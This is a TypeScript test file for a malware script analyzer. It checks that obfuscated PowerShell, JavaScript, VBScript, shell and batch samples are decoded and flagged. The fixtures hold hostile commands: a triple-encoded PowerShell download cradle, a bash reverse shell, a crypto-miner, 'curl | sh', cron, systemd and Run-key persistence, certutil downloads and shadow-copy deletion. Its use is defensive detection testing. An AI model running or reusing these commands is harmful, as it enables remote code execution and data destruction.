/** The script analyzer as a user sees it: decoded layers of obfuscated scripts, signals, language, and hostile input. */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { gzipSync, deflateRawSync } from 'node:zlib';
import { pino } from 'pino';
import { makeTempDir } from '../../../test/fixtures/analyzers/samples.js';
import { bytesIndicators } from '../indicators/index.js';
import { analyzeScriptText, createScriptAnalyzer, SCRIPT_ATTRIBUTE } from './script-analyzer.js';
import { decodedLayers, DEFAULT_LAYER_LIMITS } from './script-layers.js';

const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://cradle-host.evil-example.net/stage2.ps1')";

/** A download cradle under three encodings: -EncodedCommand (UTF-16LE), gzip+base64, then [char] codes. */
function tripleEncoded(): string {
  const enc = Buffer.from(CRADLE, 'utf16le').toString('base64');
  const gz = gzipSync(Buffer.from(`powershell.exe -NoP -W Hidden -enc ${enc}`)).toString('base64');
  const loader = `$d=[System.Convert]::FromBase64String('${gz}');$s=New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,$d)),[IO.Compression.CompressionMode]::Decompress);iex (New-Object IO.StreamReader($s)).ReadToEnd()`;
  return `$c = ${[...loader].map((ch) => `[char]${ch.charCodeAt(0)}`).join('+')}\nInvoke-Expression $c\n`;
}

test('a triple-encoded PowerShell download cradle: every layer decoded, the URL found, signals named', async () => {
  const temp = makeTempDir('script');
  try {
    const file = path.join(temp.dir, 'loader.ps1');
    writeFileSync(file, tripleEncoded());
    const analyzer = createScriptAnalyzer({ logger: pino({ level: 'silent' }) });
    await analyzer.start();
    const out = await analyzer.analyze({ path: file, size: 0, md5: '', sha1: '', sha256: 'x', names: ['loader.ps1'], typeTag: 'powershell' }, new AbortController().signal);
    const attr = out.attributes[SCRIPT_ATTRIBUTE] as { language: string; layers: Array<{ depth: number; encoding: string; text: string }>; signals: Array<{ name: string; evidence: Array<{ depth: number }> }> };
    assert.equal(attr.language, 'powershell');
    const encodings = attr.layers.map((l) => `${l.depth}:${l.encoding}`);
    assert.deepEqual(encodings, ['1:char-codes', '2:base64+gzip', '3:powershell-encodedcommand-utf16le'], encodings.join());
    assert.equal(attr.layers[2]!.text, CRADLE);
    const names = attr.signals.map((s) => s.name);
    for (const n of ['download-cradle', 'invoke-expression', 'encoded-command', 'hidden-execution']) assert.ok(names.includes(n), names.join());
    assert.equal(attr.signals.find((s) => s.name === 'download-cradle')!.evidence[0]!.depth, 3);
    const iocs = bytesIndicators(Buffer.from(tripleEncoded()), { typeTag: 'powershell' });
    assert.ok(iocs.urls.includes('http://cradle-host.evil-example.net/stage2.ps1'), iocs.urls.join());
    assert.ok(iocs.domains.includes('cradle-host.evil-example.net'));
    await analyzer.close();
  } finally {
    temp.remove();
  }
});

test('JavaScript and VBScript obfuscation: fromCharCode, concatenation, escapes, Chr() joins, reversed strings, deflate', () => {
  const js = `var u = String.fromCharCode(104,116,116,112,115) + "://" + 'dl.' + "bad-" + 'site.com' + "\\x2f\\x70\\x2e\\x65\\x78\\x65"; var r = "txt.eton".split("").reverse().join("");`;
  const jsLayers = decodedLayers(js);
  assert.ok(jsLayers.some((l) => l.text.includes('"https://dl.bad-site.com/p.exe"')), jsLayers.map((l) => l.text).join('\n'));
  assert.ok(jsLayers.some((l) => l.text.includes('"note.txt"')));
  const vbs = 'Set o = CreateObject(Chr(87) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & Chr(112) & Chr(116) & Chr(46) & Chr(83) & Chr(104) & Chr(101) & Chr(108) & Chr(108))';
  const vbsResult = analyzeScriptText(vbs, undefined, ['a.vbs']);
  assert.equal(vbsResult.language.language, 'vbscript');
  assert.ok(vbsResult.layers.some((l) => l.text.includes("'WScript.Shell'")), vbsResult.layers.map((l) => l.text).join('\n'));
  assert.ok(vbsResult.signals.some((s) => s.name === 'com-shell-execution'));
  const deflated = deflateRawSync(Buffer.from('Start-Process calc.exe; schtasks /create /tn x /tr calc.exe')).toString('base64');
  const ps = `$b=[Convert]::FromBase64String("${deflated}"); New-Object IO.Compression.DeflateStream($m, [IO.Compression.CompressionMode]::Decompress)`;
  const psResult = analyzeScriptText(ps, 'powershell', []);
  assert.ok(psResult.layers.some((l) => l.encoding === 'base64+deflate' && l.text.startsWith('Start-Process')), JSON.stringify(psResult.layers));
  assert.ok(psResult.signals.some((s) => s.name === 'persistence-scheduled-task'));
});

test('signals for shell and batch: reverse shell, miner, cron, systemd, Run key, LOLBins', () => {
  const sh = [
    '#!/bin/bash',
    'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
    './xmrig -o stratum+tcp://pool.example-mine.org:3333 --donate-level 1',
    '(crontab -l; echo "* * * * * /tmp/x") | crontab -',
    'systemctl enable evil.service',
    'curl -fsSL http://x.example-bad.org/i.sh | sh',
  ].join('\n');
  const r = analyzeScriptText(sh, undefined, []);
  assert.equal(r.language.language, 'shell');
  const names = r.signals.map((s) => s.name);
  for (const n of ['reverse-shell', 'miner', 'persistence-cron', 'persistence-systemd', 'download-cradle']) assert.ok(names.includes(n), names.join());
  const bat = '@echo off\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe\r\ncertutil -urlcache -split -f http://a.example-bad.org/x.exe x.exe\r\nvssadmin delete shadows /all /quiet';
  const b = analyzeScriptText(bat, 'batch', []);
  const bn = b.signals.map((s) => s.name);
  for (const n of ['persistence-run-key', 'lolbin', 'shadow-copy-deletion']) assert.ok(bn.includes(n), bn.join());
  const plain = analyzeScriptText('#!/bin/sh\necho hello\nls -l /tmp\n', undefined, []);
  assert.deepEqual(plain.signals, []);
  assert.deepEqual(plain.layers, []);
});

test('hostile scripts: adversarial regex inputs, self-similar nesting and huge payloads stay bounded', () => {
  const inputs = [
    "'a'+".repeat(200_000),
    '"'.repeat(300_000),
    '[char]1+'.repeat(100_000),
    'Chr(65) & '.repeat(100_000),
    'A'.repeat(3_000_000),
    'aB3/'.repeat(500_000),
    '\\x4'.repeat(300_000),
    '%4'.repeat(300_000),
    'String.fromCharCode(' + '1,'.repeat(300_000),
    '-enc ' + 'QQBB'.repeat(200_000),
    'curl '.repeat(100_000) + 'x',
    'bash -i ' + ' '.repeat(500_000),
    '/dev/tcp/' + 'a'.repeat(500_000),
  ];
  // A payload that decodes to itself wrapped again: depth must stop at the limit.
  let nested = 'Write-Host done';
  for (let i = 0; i < 20; i++) nested = `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from(nested).toString('base64')}')))`;
  inputs.push(nested);
  // A gzip bomb: 64 MB of zeros compressed, under base64.
  inputs.push(`FromBase64String('${gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x41)).toString('base64')}') GzipStream`);
  for (const text of inputs) {
    const r = analyzeScriptText(text, undefined, []);
    assert.ok(r.layers.length <= DEFAULT_LAYER_LIMITS.maxLayers);
    assert.ok(r.layers.every((l) => l.depth <= DEFAULT_LAYER_LIMITS.maxDepth && l.text.length <= DEFAULT_LAYER_LIMITS.maxLayerChars));
    assert.ok(r.layers.reduce((n, l) => n + l.text.length, 0) <= DEFAULT_LAYER_LIMITS.maxTotalChars);
    for (const s of r.signals) assert.ok(s.evidence.length <= 5 && s.evidence.every((e) => e.excerpt.length <= 160));
  }
  const deep = analyzeScriptText(nested, 'powershell', []);
  assert.equal(Math.max(...deep.layers.map((l) => l.depth)), DEFAULT_LAYER_LIMITS.maxDepth);
});
